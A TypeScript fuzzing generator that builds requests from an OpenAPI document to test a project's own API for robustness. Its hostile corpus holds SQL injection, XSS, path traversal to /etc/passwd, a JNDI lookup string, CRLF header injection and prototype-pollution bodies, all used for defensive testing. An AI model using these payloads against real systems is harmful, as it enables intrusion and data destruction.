/**
 * Requests for any operation of an OpenAPI 3.1 document, as fast-check arbitraries: the fuzzing
 * suite's generator (test/integration/fuzz-openapi.test.ts; ASVS v5.0.0-2.2.1, 16.5.1).
 *
 * Each value is drawn from a mix of (1) values of the shape the schema asks for, (2) boundary values
 * (one past a length or a range, empty, zero, the largest safe integer), (3) hostile strings (huge,
 * unicode, NUL, CRLF, SQL, HTML, path traversal, invalid UUIDs and dates) and values of the wrong type,
 * and (4) real values from a seeded journey (ids of an application, a permit…), so that a handler gets
 * past its 404 and its schema and the code behind them is reached. Objects sometimes lose a required
 * field or gain an unknown one; bodies are sometimes malformed JSON, sent with the wrong content type,
 * missing, or over the body limit; multipart bodies are sometimes broken.
 *
 * Only the few JSON Schema keywords our zod schemas produce are read (type, enum, const, anyOf/oneOf,
 * properties/required/additionalProperties, items, pattern, format, the length and range limits, $ref).
 */
import fc from 'fast-check';

export type JsonSchema = {
  $ref?: string;
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  propertyNames?: JsonSchema;
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  pattern?: string;
  format?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
};

export type OpenApiDocument = {
  paths: Record<string, Record<string, RawOperation>>;
  components?: { schemas?: Record<string, JsonSchema> };
};
type RawOperation = {
  operationId: string;
  parameters?: { in: 'path' | 'query' | 'header' | 'cookie'; name: string; required?: boolean; schema: JsonSchema }[];
  requestBody?: { required?: boolean; content: Record<string, { schema: JsonSchema }> };
};

export type Parameter = { name: string; required: boolean; schema: JsonSchema };
export type Operation = {
  operationId: string;
  method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  /** The OpenAPI path, `{name}` for each path parameter. */
  path: string;
  pathParams: Parameter[];
  query: Parameter[];
  headers: Parameter[];
  body: { contentType: 'application/json' | 'multipart/form-data'; schema: JsonSchema; required: boolean } | null;
};

/** Every operation of the document, with its `$ref`s resolved. */
export function operationsOf(doc: OpenApiDocument): Operation[] {
  const out: Operation[] = [];
  for (const [path, ops] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(ops)) {
      const params = (op.parameters ?? []).map((p) => ({ ...p, schema: resolve(p.schema, doc) }));
      const pick = (where: string) => params.filter((p) => p.in === where).map((p) => ({ name: p.name, required: p.required === true, schema: p.schema }));
      const content = op.requestBody?.content ?? {};
      const contentType = content['multipart/form-data'] ? 'multipart/form-data' : content['application/json'] ? 'application/json' : null;
      out.push({
        operationId: op.operationId,
        method: method.toUpperCase() as Operation['method'],
        path,
        pathParams: pick('path'),
        query: pick('query'),
        headers: pick('header'),
        body: contentType ? { contentType, schema: resolve(content[contentType]!.schema, doc), required: op.requestBody?.required === true } : null,
      });
    }
  }
  return out;
}

/** Inlines `#/components/schemas/…` references (a reference cycle is cut off at depth 8). */
export function resolve(schema: JsonSchema, doc: OpenApiDocument, depth = 0): JsonSchema {
  if (depth > 8) return {};
  if (schema.$ref) {
    const name = schema.$ref.replace('#/components/schemas/', '');
    const target = doc.components?.schemas?.[name];
    if (!target) throw new Error(`unresolved $ref ${schema.$ref}`);
    return resolve(target, doc, depth + 1);
  }
  const out: JsonSchema = { ...schema };
  if (schema.properties) out.properties = Object.fromEntries(Object.entries(schema.properties).map(([k, v]) => [k, resolve(v, doc, depth + 1)]));
  if (schema.items) out.items = resolve(schema.items, doc, depth + 1);
  if (typeof schema.additionalProperties === 'object') out.additionalProperties = resolve(schema.additionalProperties, doc, depth + 1);
  for (const k of ['anyOf', 'oneOf', 'allOf'] as const) if (schema[k]) out[k] = schema[k].map((s) => resolve(s, doc, depth + 1));
  return out;
}

/**
 * The hostile corpus. None of these contains what the suite looks for as a leak (a stack frame,
 * "node_modules", a source path): an echo of the input is not a leak.
 */
export const HUGE = 'A'.repeat(100_000);
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t\t',
  HUGE,
  'é'.repeat(20_000),
  '😀'.repeat(5_000),
  'a\u0000b',
  '\u0000',
  'line\r\nSet-Cookie: injected=1',
  'name\r\n[ERROR] forged log line',
  "' OR '1'='1",
  "'; DROP TABLE applications; --",
  '" OR ""="',
  '1; SELECT pg_sleep(0)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '....//....//etc',
  '${jndi:ldap://example.invalid/a}',
  '{{7*7}}',
  '\ud800',
  '\udfff\ud800',
  '\u202eRTL',
  'ǅ̸̛̝̱a͓̘',
  '\ufeffBOM',
  '00000000-0000-0000-0000-00000000000',
  '6f1c2a4e-9b8d-4c3e-a1f2-0d9e8c7b6a5g',
  '6F1C2A4E-9B8D-4C3E-A1F2-0D9E8C7B6A54',
  '6f1c2a4e9b8d4c3ea1f20d9e8c7b6a54',
  '{6f1c2a4e-9b8d-4c3e-a1f2-0d9e8c7b6a54}',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '6f1c2a4e-9b8d-0c3e-a1f2-0d9e8c7b6a54',
  '2026-02-30',
  '2026-13-01',
  '0000-01-01',
  '9999-12-31',
  '+275760-09-13',
  '2026-11-20T25:61:00Z',
  '-1',
  '-0',
  '0',
  '1.5',
  '1e309',
  '-1e309',
  '99999999999999999999999',
  '9223372036854775808',
  '0x7fffffff',
  'NaN',
  'Infinity',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  'toString',
  '%',
  '%zz',
  '%E0%A4%A',
  '?',
  '#',
  '&',
  '=',
  '/',
  '//',
  '\\',
  'con',
  'NUL.txt',
  '3573014506900002',
  '357301450690000x',
];

const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 40 }) },
);

const ABSURD_NUMBERS: readonly number[] = [
  0,
  -0,
  -1,
  1,
  0.5,
  -0.5,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_SAFE_INTEGER - 2,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 63,
  1e21,
  1e308,
  -1e308,
  Number.MIN_VALUE,
];

/** A value of some other type than the schema asks for (and odd ones of any type). */
const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.constantFrom(...ABSURD_NUMBERS),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  hostileString,
  fc.array(fc.oneof(fc.integer(), hostileString, fc.constant(null)), { maxLength: 3 }),
  fc.dictionary(fc.constantFrom('a', '__proto__', 'constructor', '$gt', ''), fc.oneof(fc.integer(), hostileString), { maxKeys: 2 }),
  fc.constant([[[[[[[[[[[]]]]]]]]]]]),
  fc.constant(Array.from({ length: 5_000 }, (_, i) => i)),
);

/** Names a client should not be able to set (BOPLA) and names no schema has. */
const EXTRA_KEYS = ['status', 'state', 'approvedBy', 'feeAmount', 'role', 'tenantId', 'id', '__proto__', 'constructor', 'x'.repeat(500), '', 'é'];

/** Real values, by property or parameter name (and `uuid` for any id-shaped field), from the seeded journey. */
export type RealValues = Record<string, readonly unknown[]>;

export type ArbitraryOptions = {
  real: RealValues;
  /** Only values of the right shape (and real ones): an object of these gets past the schema, to the handler. */
  strict?: boolean;
};

/** Any value for a field of this schema: valid-shaped, boundary, hostile, wrong-typed or real. */
export function valueArb(schema: JsonSchema, name: string | undefined, opts: ArbitraryOptions, depth = 0): fc.Arbitrary<unknown> {
  const real = [...(name ? (opts.real[name] ?? []) : []), ...(schema.format === 'uuid' ? (opts.real.uuid ?? []) : [])];
  if (opts.strict) return real.length ? fc.oneof(validArb(schema, opts, depth), fc.constantFrom(...real)) : validArb(schema, opts, depth);
  const choices: fc.WeightedArbitrary<unknown>[] = [
    { weight: 5, arbitrary: validArb(schema, opts, depth) },
    { weight: 2, arbitrary: boundaryArb(schema) },
    { weight: 2, arbitrary: depth > 3 ? hostileString : fc.oneof(hostileString, wrongType) },
  ];
  if (real.length) choices.push({ weight: 5, arbitrary: fc.constantFrom(...real) });
  return fc.oneof(...choices);
}

function types(schema: JsonSchema): string[] {
  if (Array.isArray(schema.type)) return schema.type;
  if (schema.type) return [schema.type];
  if (schema.properties || schema.additionalProperties) return ['object'];
  return [];
}

/** A value of the shape the schema asks for (not always valid: a pattern's match may be too long). */
export function validArb(schema: JsonSchema, opts: ArbitraryOptions, depth = 0): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum?.length) return fc.constantFrom(...schema.enum);
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives?.length) return fc.oneof(...alternatives.map((s) => validArb(s, opts, depth + 1)));
  if (schema.allOf?.length) return validArb(Object.assign({}, ...schema.allOf) as JsonSchema, opts, depth + 1);
  const ts = types(schema);
  if (ts.length > 1) return fc.oneof(...ts.map((t) => validArb({ ...schema, type: t }, opts, depth)));
  switch (ts[0]) {
    case 'null':
      return fc.constant(null);
    case 'boolean':
      return fc.boolean();
    case 'integer': {
      const min = Math.max(schema.minimum ?? (schema.exclusiveMinimum !== undefined ? schema.exclusiveMinimum + 1 : -1_000_000), -Number.MAX_SAFE_INTEGER);
      const max = Math.min(schema.maximum ?? (schema.exclusiveMaximum !== undefined ? schema.exclusiveMaximum - 1 : 1_000_000_000), Number.MAX_SAFE_INTEGER);
      return min <= max ? fc.oneof(fc.integer({ min, max }), fc.integer({ min, max: Math.min(max, min + 100) })) : fc.integer();
    }
    case 'number': {
      const min = schema.minimum ?? schema.exclusiveMinimum ?? -1e9;
      const max = schema.maximum ?? schema.exclusiveMaximum ?? 1e9;
      return fc.double({ min, max, noNaN: true, noDefaultInfinity: true });
    }
    case 'string':
      return stringArb(schema);
    case 'array': {
      const item = schema.items ?? {};
      return fc.array(depth > 4 ? validArb(item, opts, depth + 1) : valueArb(item, undefined, opts, depth + 1), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.max(schema.minItems ?? 0, Math.min(schema.maxItems ?? 4, 4)),
      });
    }
    case 'object':
      return objectArb(schema, opts, depth);
    default:
      return fc.oneof(fc.string({ maxLength: 10 }), fc.integer(), fc.boolean(), fc.constant(null));
  }
}

function stringArb(schema: JsonSchema): fc.Arbitrary<string> {
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.max(minLength, Math.min(schema.maxLength ?? 60, 200));
  switch (schema.format) {
    case 'uuid':
      return fc.uuid();
    case 'date':
      return fc.date({ min: new Date('1900-01-01'), max: new Date('2200-12-31'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
    case 'date-time':
      return fc.date({ min: new Date('1900-01-01'), max: new Date('2200-12-31'), noInvalidDate: true }).map((d) => d.toISOString());
    case 'email':
      return fc.emailAddress();
    default:
      break;
  }
  if (schema.pattern) {
    const re = compile(schema.pattern);
    if (re) return fc.stringMatching(re).filter((s) => s.length <= Math.max(maxLength, 200));
  }
  return fc.string({ unit: 'grapheme', minLength, maxLength });
}

/** The pattern as a unicode RegExp, or null if JavaScript cannot read it so. */
function compile(pattern: string): RegExp | null {
  try {
    return new RegExp(pattern, 'u');
  } catch {
    return null;
  }
}

/** Values just inside and just outside the schema's limits. */
export function boundaryArb(schema: JsonSchema): fc.Arbitrary<unknown> {
  const ts = types(schema);
  const out: unknown[] = [];
  if (ts.includes('string')) {
    const min = schema.minLength ?? 0;
    out.push('', 'a'.repeat(min), 'é'.repeat(min));
    if (min > 0) out.push('a'.repeat(min - 1));
    if (schema.maxLength !== undefined) out.push('a'.repeat(schema.maxLength), 'a'.repeat(schema.maxLength + 1), '😀'.repeat(schema.maxLength));
  }
  if (ts.includes('integer') || ts.includes('number')) {
    for (const v of [schema.minimum, schema.maximum, schema.exclusiveMinimum, schema.exclusiveMaximum]) {
      if (v !== undefined) out.push(v, v - 1, v + 1, v + 0.5);
    }
    out.push(...ABSURD_NUMBERS);
  }
  if (ts.includes('array')) {
    out.push(
      [],
      Array.from({ length: (schema.maxItems ?? 100) + 1 }, () => null),
    );
  }
  if (ts.includes('object')) out.push({}, []);
  if (ts.includes('boolean')) out.push('true', 0, 1);
  if (!out.length) out.push(null, '', 0);
  return fc.constantFrom(...out);
}

function objectArb(schema: JsonSchema, opts: ArbitraryOptions, depth: number): fc.Arbitrary<unknown> {
  const props = Object.entries(schema.properties ?? {});
  const required = (schema.required ?? []).filter((k) => schema.properties?.[k]);
  const strict = { ...opts, strict: true };
  const record = (o: ArbitraryOptions) => fc.record(Object.fromEntries(props.map(([k, s]) => [k, valueArb(s, k, o, depth + 1)])), { requiredKeys: required });
  // Half the objects have every field of the right shape (at most one then goes wrong below), so that
  // the handler behind the schema is reached; the other half mix bad values into every field.
  const base: fc.Arbitrary<Record<string, unknown>> = props.length
    ? opts.strict
      ? record(strict)
      : fc.oneof(record(opts), record(strict))
    : typeof schema.additionalProperties === 'object'
      ? fc.dictionary(
          schema.propertyNames ? stringArb(schema.propertyNames) : fc.string({ maxLength: 20 }),
          valueArb(schema.additionalProperties, undefined, opts, depth + 1),
          { maxKeys: 5 },
        )
      : fc.constant({});
  if (opts.strict) return base;
  // One time in six a required field goes missing, one in six an unknown field comes along, and one in
  // six a field of the object gets a hostile or wrong-typed value.
  const names = props.map(([k]) => k);
  return fc
    .tuple(
      base,
      fc.nat(5),
      fc.constantFrom(...(required.length ? required : [''])),
      fc.constantFrom(...EXTRA_KEYS),
      depth > 3 ? hostileString : fc.oneof(hostileString, wrongType),
      fc.constantFrom(...(names.length ? names : [''])),
    )
    .map(([value, roll, drop, key, extra, victim]) => {
      const out: Record<string, unknown> = { ...value };
      if (roll === 0 && drop) delete out[drop];
      if (roll === 1) Object.defineProperty(out, key, { value: extra, enumerable: true, configurable: true, writable: true });
      if (roll === 2 && victim) out[victim] = extra;
      return out;
    });
}

/** encodeURIComponent, except that a lone surrogate goes out as its UTF-8 bytes' replacement, not an exception. */
function percentEncode(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    return [...Buffer.from(s, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0').toUpperCase()}`).join('');
  }
}

/** A value as text for a path segment, a query string or a header. */
export function asText(v: unknown): string {
  if (typeof v === 'string') return v;
  if (v === undefined) return '';
  if (typeof v === 'number' || typeof v === 'boolean' || typeof v === 'bigint') return String(v);
  return JSON.stringify(v) ?? '';
}

export type FuzzRequest = {
  method: Operation['method'];
  url: string;
  headers: Record<string, string>;
  payload?: string | Buffer;
  /** What the body was meant to be, for the failure message. */
  bodyKind: string;
};

/** Header values must be sendable at all: visible ASCII only, and not endless. */
const headerSafe = (s: string) => s.replace(/[^\x20-\x7e]/g, '?').slice(0, 4_000);

const MALFORMED_JSON: readonly string[] = [
  '{"a": ',
  '{',
  '}',
  'nul',
  '[1, 2',
  '{"a": 1}}',
  '{"a": 1,}',
  "{'a': 1}",
  '{"a": 01}',
  '{"a": 1e400}',
  '{"a": -1e400}',
  '{"a": "\\ud800"}',
  '{"a": "\\u0000"}',
  '{"__proto__": {"polluted": true}}',
  '{"constructor": {"prototype": {"polluted": true}}}',
  '[]',
  '"just a string"',
  '123',
  'null',
  'true',
  '\ufeff{}',
  '['.repeat(20_000) + ']'.repeat(20_000),
  '{"a":'.repeat(5_000) + '1' + '}'.repeat(5_000),
  `{"a": "${'x'.repeat(2 * 1024 * 1024)}"}`,
];

const WRONG_CONTENT_TYPES: readonly string[] = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'application/xml',
  'application/json; charset=utf-16',
  'application/json; charset=bogus',
  'application/json; boundary=x',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'application/octet-stream',
  'image/png',
  '*/*',
  'application/',
  ';;;',
];

const jsonBodyArb = (schema: JsonSchema, opts: ArbitraryOptions): fc.Arbitrary<Pick<FuzzRequest, 'payload' | 'bodyKind'> & { contentType?: string }> =>
  fc.oneof(
    {
      weight: 8,
      arbitrary: valueArb(schema, undefined, opts).map((v) => ({ payload: JSON.stringify(v) ?? 'null', contentType: 'application/json', bodyKind: 'json' })),
    },
    // A body of the right shape throughout, so that the handler behind the schema is reached.
    {
      weight: 6,
      arbitrary: valueArb(schema, undefined, { ...opts, strict: true }).map((v) => ({
        payload: JSON.stringify(v) ?? 'null',
        contentType: 'application/json',
        bodyKind: 'json of the right shape',
      })),
    },
    { weight: 2, arbitrary: fc.constantFrom(...MALFORMED_JSON).map((p) => ({ payload: p, contentType: 'application/json', bodyKind: 'malformed json' })) },
    {
      weight: 2,
      arbitrary: fc.tuple(fc.constantFrom(...WRONG_CONTENT_TYPES), valueArb(schema, undefined, opts), fc.boolean()).map(([contentType, v, asForm]) => ({
        payload:
          asForm && v && typeof v === 'object' ? new URLSearchParams(Object.entries(v).map(([k, x]) => [k, asText(x)])).toString() : (JSON.stringify(v) ?? ''),
        contentType,
        bodyKind: `wrong content type ${contentType}`,
      })),
    },
    { weight: 1, arbitrary: fc.constant({ bodyKind: 'no body' }) },
    { weight: 1, arbitrary: fc.constant({ payload: '', contentType: 'application/json', bodyKind: 'empty json body' }) },
  );

export type MultipartFiles = { pdf: Buffer; png: Buffer };
const multipartBodyArb = (files: MultipartFiles): fc.Arbitrary<Pick<FuzzRequest, 'payload' | 'bodyKind'> & { contentType?: string }> => {
  const content = fc.oneof(
    fc.constant(files.pdf),
    fc.constant(files.png),
    fc.uint8Array({ maxLength: 2_000 }).map((a) => Buffer.from(a)),
    fc.constant(Buffer.concat([files.pdf.subarray(0, 40)])),
    fc.constant(Buffer.from('%PDF-1.7\n<script>alert(1)</script>')),
    fc.constant(Buffer.alloc(0)),
  );
  const fileName = fc.oneof(fc.constantFrom('ktp.pdf', 'foto.png', 'a.exe', 'x.pdf.php', '.pdf', '', 'a'.repeat(1_000) + '.pdf'), hostileString);
  const partType = fc.constantFrom('application/pdf', 'image/png', 'image/jpeg', 'text/html', 'application/x-msdownload', '', 'application/pdf; charset="');
  const fieldName = fc.oneof({ weight: 5, arbitrary: fc.constant('file') }, { weight: 1, arbitrary: fc.constantFrom('files', 'FILE', '', 'file[]') });
  const boundary = 'izolfuzzboundary';
  const part = fc
    .tuple(fieldName, fileName, partType, content)
    .map(([name, filename, type, data]) =>
      Buffer.concat([
        Buffer.from(
          `--${boundary}\r\nContent-Disposition: form-data; name="${name}"; filename="${filename.replace(/[\r\n]/g, ' ')}"\r\n${type ? `Content-Type: ${type}\r\n` : ''}\r\n`,
        ),
        data,
        Buffer.from('\r\n'),
      ]),
    );
  const textField = fc
    .tuple(fc.constantFrom('caption', 'note', 'file', 'kind'), hostileString)
    .map(([name, v]) => Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${v.slice(0, 20_000)}\r\n`));
  return fc.oneof(
    {
      weight: 8,
      arbitrary: fc
        .tuple(fc.array(fc.oneof({ weight: 4, arbitrary: part }, { weight: 1, arbitrary: textField }), { minLength: 0, maxLength: 3 }), fc.nat(6))
        .map(([parts, cut]) => {
          const whole = Buffer.concat([...parts, Buffer.from(`--${boundary}--\r\n`)]);
          // One time in seven the body is cut off part-way.
          const payload = cut === 0 ? whole.subarray(0, Math.floor(whole.length / 2)) : whole;
          return {
            payload,
            contentType: `multipart/form-data; boundary=${boundary}`,
            bodyKind: `multipart, ${parts.length} part(s)${cut === 0 ? ', cut off' : ''}`,
          };
        }),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        { payload: files.pdf, contentType: 'multipart/form-data', bodyKind: 'multipart without boundary' },
        { payload: files.pdf, contentType: 'application/pdf', bodyKind: 'raw file, not multipart' },
        { payload: '{"file": "x"}', contentType: 'application/json', bodyKind: 'json instead of multipart' },
        { payload: `--${boundary}\r\n\r\n`, contentType: `multipart/form-data; boundary=${boundary}`, bodyKind: 'multipart, headerless part' },
        { payload: 'garbage', contentType: `multipart/form-data; boundary=${boundary}`, bodyKind: 'multipart, no parts' },
      ),
    },
    { weight: 1, arbitrary: fc.constant({ bodyKind: 'no body' }) },
  );
};

/** A value one time in five, otherwise undefined (an unknown query parameter stops most requests at the schema). */
const sometimes = <T>(arb: fc.Arbitrary<T>): fc.Arbitrary<T | undefined> =>
  fc.oneof({ weight: 4, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: arb });

/**
 * One request for the operation: its path parameters, query, headers and body drawn as above. Path
 * segments are percent-encoded (mostly: a plain ASCII value sometimes goes raw, `..` included).
 */
export function requestArb(op: Operation, opts: ArbitraryOptions & { files: MultipartFiles }): fc.Arbitrary<FuzzRequest> {
  const segment = (p: Parameter) =>
    fc.tuple(valueArb(p.schema, p.name, opts), fc.nat(4)).map(([v, roll]) => {
      const s = asText(v);
      return roll === 0 && /^[\x21-\x7e]*$/.test(s) && !/[?#%]/.test(s) ? s : percentEncode(s);
    });
  const path = fc.tuple(...op.pathParams.map(segment)).map((values) => {
    let i = 0;
    return op.path.replace(/\{[^}]+\}/g, () => values[i++] ?? '');
  });
  const queryParam = (p: Parameter) =>
    fc.option(fc.oneof(valueArb(p.schema, p.name, opts), valueArb(p.schema, p.name, { ...opts, strict: true })), { freq: p.required ? 8 : 2, nil: undefined });
  const query = fc
    .tuple(
      fc.tuple(...op.query.map(queryParam)),
      sometimes(fc.tuple(fc.constantFrom(...EXTRA_KEYS, 'page', 'q'), hostileString)),
      sometimes(fc.constantFrom('%zz', '&&&', '=', 'a=%E0%A4%A', 'a[b]=1&a[c]=2', 'a=1&a=2&a=3', '__proto__[x]=1', `q=${'A'.repeat(20_000)}`)),
    )
    .map(([values, extra, raw]) => {
      const sp = new URLSearchParams();
      op.query.forEach((p, i) => {
        const v = values[i];
        if (v === undefined) return;
        if (Array.isArray(v)) for (const x of v.slice(0, 5)) sp.append(p.name, asText(x));
        else sp.append(p.name, asText(v));
      });
      if (extra) sp.append(extra[0], extra[1]);
      const s = [sp.toString(), raw].filter(Boolean).join('&');
      return s ? `?${s}` : '';
    });
  const headerParam = (p: Parameter) =>
    fc.option(
      valueArb(p.schema, p.name, opts).map((v) => headerSafe(asText(v))),
      { freq: 2, nil: undefined },
    );
  const headers = fc
    .tuple(
      fc.tuple(...op.headers.map(headerParam)),
      fc.option(fc.constantFrom('en', 'id', 'xx', '*', 'en;q=abc', 'id-ID,id;q=0.9,en;q=0.8', 'é'.repeat(10)), { freq: 3, nil: undefined }),
    )
    .map(([values, lang]) => {
      const out: Record<string, string> = {};
      op.headers.forEach((p, i) => {
        if (values[i] !== undefined) out[p.name] = values[i];
      });
      if (lang) out['accept-language'] = headerSafe(lang);
      return out;
    });
  const body =
    op.body?.contentType === 'application/json'
      ? jsonBodyArb(op.body.schema, opts)
      : op.body?.contentType === 'multipart/form-data'
        ? multipartBodyArb(opts.files)
        : fc.oneof(
            { weight: 6, arbitrary: fc.constant<{ payload?: string; contentType?: string; bodyKind: string }>({ bodyKind: 'no body' }) },
            { weight: 1, arbitrary: fc.constant({ payload: '{"unexpected": true}', contentType: 'application/json', bodyKind: 'unexpected json body' }) },
            { weight: 1, arbitrary: fc.constant({ payload: '{"a":', contentType: 'application/json', bodyKind: 'unexpected malformed json' }) },
          );
  return fc.tuple(path, query, headers, body).map(([p, q, h, b]) => {
    const sendsBody = op.method !== 'GET' && b.payload !== undefined;
    return {
      method: op.method,
      url: p + q,
      headers: { ...h, ...(sendsBody && b.contentType !== undefined ? { 'content-type': b.contentType } : {}) },
      ...(sendsBody ? { payload: b.payload } : {}),
      bodyKind: sendsBody ? b.bodyKind : 'no body',
    };
  });
}
